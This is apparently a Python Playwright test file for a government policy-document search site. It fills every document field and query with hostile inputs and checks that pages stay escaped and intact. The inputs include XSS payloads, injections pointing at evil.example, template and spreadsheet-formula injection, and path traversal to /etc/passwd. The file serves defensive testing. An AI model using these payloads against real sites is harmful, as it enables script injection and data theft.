"""Hostile words for every field, name and query, and what a page must be like that holds them."""

from __future__ import annotations

import os
from datetime import date
from urllib.parse import urlencode

from playwright.sync_api import Page

from index.document import Attachment, Contact, PolicyDocument, Section, Validity
from tests.web.browsing import Tabs, unfold, width_of

RUN = "window.pwned=1"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "double-quote": f'"><img src=x onerror={RUN}>',
    "single-quote": f"'><svg onload={RUN}> ' autofocus onfocus={RUN} x='",
    "attribute": f'" autofocus onfocus={RUN} style="position:fixed;inset:0" x="',
    "way-out": f"</title></textarea></select></style></script></svg><script>{RUN}</script>",
    "comment": f"--><script>{RUN}</script><!--",
    "section": f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script><![CDATA[",
    "svg": f"<svg><animate onbegin={RUN} attributeName=x dur=1s /><foreignObject>"
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    "javascript": f"javascript:{RUN}//",
    "javascript-spaced": f"\x01java\tscript\n:{RUN}//",
    "data": f"data:text/html;charset=utf-8,<script>parent.{RUN}</script>",
    "other-host": f"//evil.example/\\@evil.example/?<script src=//evil.example>{RUN}</script>",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% for x in '123' %}{{ config }}{% endfor %}",
    "percent": "%s %(x)s %3Cscript%3E {0} {x.__class__} \\u003cscript\\u003e \\x3cscript\\x3e",
    "entities": f"&lt;script&gt; &#x3c;img src=x onerror={RUN}&#x3e; &amp;lt; &#0; &nbsp;",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "base": "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "form": "</form><form action=//evil.example><input name=q value=1><button>检索</button>",
    "closing": "</p></li></ul></section></main></body></html>",
    "bidi": "甲\u202e乙丙丁 abc\u2067def",
    "zero-width": "零\u200b宽\u200d\ufeff\u2060\u00ad字",
    "long-word": "A" * 10_000,
    "no-break": "\u2060".join("政策" * 800),
    "no-break-space": "\u00a0".join("policy" for _ in range(400)),
    "spaces": "　" * 300 + " " * 300 + "末",
    "long-title": "关于进一步加强和改进有关工作的若干意见" * 250,
    "marks-above": "政" + "\u0301" * 300 + "策",
    "controls": "\x00\x01\x1b[31m\x7f\x85\x9f末",
    "lines": "一\u2028二\u2029三\r\n四\v五\f六",
    "surrogates": "\ud800半\udfff",
    "noncharacters": "\ufffe\uffff\U0001ffff末",
    "formula": "=cmd|' /C calc'!A0",
    "formulas": '@SUM(1+1)\t=HYPERLINK("http://evil.example")\r\n+1-1',
    "paths": "../../../etc/passwd\x00.txt %2e%2e%2f ..\\..\\ C:\\con",
}
EVERY = sorted(PAYLOADS)
SOME = ["bidi", "double-quote", "long-word", "template", "way-out"]
STORED = [name for name in EVERY if name != "surrogates"]
"""An index holds UTF-8: half a character comes out of it as a question mark (see the real files)."""
TRIED = STORED if os.environ.get("HOSTILE") == "full" else SOME
"""Tried one by one: all of them by ``make hostile``, otherwise some of each kind. The pages that
hold every payload at once are always looked at."""
IN_FIELD = 600
"""So many characters of a payload stand in a field but the title and the body, which hold all: a
word of 10,000 letters costs Chromium a second each time it is printed."""
IN_ADDRESS = 1000
"""So many characters of a payload go into an address, eight times; servers refuse longer ones."""

LISTENER = """addEventListener('securitypolicyviolation', (event) => {
    (window.refused ||= []).push(`${event.violatedDirective} ${event.blockedURI}`);
});"""

HARM = """() => {
    const known = new Set(('html head meta title link script body a header div nav ul ol li form input '
        + 'button main section h1 h2 h3 h4 h5 p span small strong b em mark label fieldset legend details '
        + 'summary select option svg path rect dl dt dd time article footer figure figcaption code pre '
        + 'table caption thead tbody tr th td').split(' '));
    const found = (window.refused || []).map((what) => `the policy refused ${what}`);
    if ('pwned' in window) found.push('a script ran');
    const scripts = [...document.scripts].map((s) => s.getAttribute('src') || s.textContent);
    if (scripts.length !== 1 || !/^.static.zhengce.js/.test(scripts[0])) found.push(`scripts ${scripts}`);
    if (document.querySelectorAll('form[role=search]').length > 1) found.push('another search form');
    for (const e of document.querySelectorAll('*')) {
        if (!known.has(e.localName)) found.push(`an element ${e.localName}`);
        for (const {name, value} of e.attributes) {
            if (/^on|^style$|^srcdoc$|^autofocus$|^http-equiv$|^formaction$/.test(name)) {
                found.push(`an attribute ${name}=${value}`);
            }
            if (['href', 'src', 'action', 'data', 'xlink:href', 'poster'].includes(name)
                && !/^(#|[/](?![/\\\\])|https?:[/][/](?!evil))/.test(value)) found.push(`an address ${value}`);
        }
    }
    return found;
}"""
"""What came from a payload and is more than words."""

DISORDER = """() => {
    scrollTo(0, 0);
    const parts = ['header.site', 'main', 'footer.site-foot'].map((name) => document.querySelector(name));
    if (parts.some((part) => !part)) return ['a part of the page is missing'];
    const found = [];
    const [header, main, footer] = parts.map((part) => part.getBoundingClientRect());
    if (header.bottom > main.top + 1 || main.bottom > footer.top + 1) found.push('the parts overlap');
    for (const [box, part] of [[header, 'header'], [main, 'main'], [footer, 'footer']]) {
        if (Math.abs(box.width - document.documentElement.clientWidth) > 1) found.push(`${part}: ${box.width} wide`);
        if (box.height < 20) found.push(`${part}: ${box.height} high`);
    }
    if (header.height > 240) found.push(`a header of ${header.height}`);
    const on = (e) => {
        e.scrollIntoView({block: 'center'});
        const box = e.getBoundingClientRect();
        const top = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
        return e.contains(top) || !!top && top.contains(e);
    };
    if (!on(document.querySelector('.brand'))) found.push('something lies on the header');
    if (!on(document.querySelector('.site-foot a'))) found.push('something lies on the footer');
    scrollTo(0, 0);
    return found;
}"""
"""Where a page has fallen apart."""

TURNED = """(payload) => {
    const place = (node, at) => {
        const range = document.createRange();
        range.setStart(node, at);
        range.setEnd(node, at + 1);
        return range.getBoundingClientRect();
    };
    const found = [];
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode()) {
        const node = walker.currentNode;
        if (!node.parentElement.checkVisibility() || node.parentElement.closest('.unseen, .skip')) continue;
        for (let at = 0, piece; at <= node.data.length; at += piece.length + payload.length) {
            const end = node.data.indexOf(payload, at);
            piece = node.data.slice(at, end < 0 ? undefined : end);
            const first = at + piece.search(/\\S\\S/);
            if (first < at) continue;
            const [one, other] = [place(node, first), place(node, first + 1)];
            if (Math.abs(one.top - other.top) < 2 && other.left < one.left) {
                found.push(`${node.parentElement.className || node.parentElement.localName}: ${piece.trim().slice(0, 20)}`);
            }
        }
    }
    return found;
}"""
"""Words beside the payload that are printed from right to left."""


def hostile(name: str) -> PolicyDocument:
    """A document with a payload in every field."""
    full = PAYLOADS[name]
    text = full[:IN_FIELD]
    body = "\n".join([f"政府网站{text}", f"第一条　{text}", f"第二条　{text}", full])
    return PolicyDocument(
        id=f"hostile-{name}",
        title=f"恶意{name}{full}",
        body=body,
        doc_number=text,
        index_number=text,
        issuers=(text, f"机关{text}"),
        issuers_as_written=(text,),
        genre=text,
        topics=((text, text), (f"主题{text}",)),
        region=text,
        validity=Validity.REPEALED,
        written_on=date(2023, 5, 15),
        source_url=text,
        source_path=text,
        contact=Contact(text, text),
        attachments=(
            Attachment(text, text),
            Attachment(text, f"https://www.example.gov.cn/{text}"),
            Attachment(text, f"javascript:{text}"),
        ),
        sections=(
            Section(1, text, text, 0),
            Section(4, "第一条", text, body.index("第一条")),
            Section(4, text, "", body.index("第二条")),
        ),
        as_printed=((text, text),),
        warnings=(text,),
    )


class WatchingTabs(Tabs):
    """Tabs that write down what the policy of a page refuses."""

    def look(self, path: str, width: int = 1280, reading: str = "") -> Page:
        if (width, reading) not in self._open:
            page = self._new(width, reading)
            page.add_init_script(LISTENER)
        return super().look(path, width, reading)


def twin_of(document: PolicyDocument) -> PolicyDocument:
    """A document that is related, with another title."""
    row = document.to_json()
    row |= {"id": f"{document.id}-twin", "title": f"同一机关{document.title[2:]}", "body": ""}
    return PolicyDocument.from_json(row)


def query_of(*pairs: tuple[str, str]) -> str:
    return urlencode([(name, value[:IN_ADDRESS]) for name, value in pairs], errors="surrogatepass")


def assert_unharmed(page: Page, payload: str = "") -> None:
    """The page is in order on a desk and on a phone, and no payload is more than words."""
    unfold(page)
    assert page.evaluate(HARM) == []
    for width in (1280, 375):
        page.set_viewport_size({"width": width, "height": 800})
        assert width_of(page) == width
        assert page.evaluate(DISORDER) == [], width
    if payload:
        assert page.evaluate(TURNED, payload) == []
